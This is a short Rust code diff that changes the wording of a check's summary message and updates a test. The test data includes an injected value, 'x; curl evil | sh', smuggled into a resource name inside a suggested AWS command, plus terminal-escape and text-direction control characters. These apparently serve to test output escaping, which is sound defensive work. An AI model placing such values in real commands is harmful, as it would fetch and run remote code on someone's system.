@@ -200,7 +200,7 @@ impl Finding {
     /// What was seen and expected, in a short text.
     #[must_use]
     pub fn in_brief(&self) -> Printable {
-        printable!("{}: saw {}, wanted {}", self.check.name, self.saw, self.wanted)
+        printable!("{}: seen {}, expected {}", self.check.name, self.saw, self.wanted)
     }
 
     /// Short texts of the open ones of `findings`, joined. If some have failed, only these:
@@ -464,7 +464,7 @@ mod tests {
                 r"look at 'x; curl evil | sh\u{a}', or make it: `aws emr make --name 'x; curl evil | sh\u{a}'`"
             )
         );
-        assert_eq!(finding.in_brief(), r"named: saw \u{1b}[2J, wanted a\u{202e}b");
+        assert_eq!(finding.in_brief(), r"named: seen \u{1b}[2J, expected a\u{202e}b");
         assert_eq!(
             NAMED.on("acme-sc", "").failed("").fix.as_deref(),
             Some("look at acme-sc, or make it: `aws emr make --name acme-sc`")
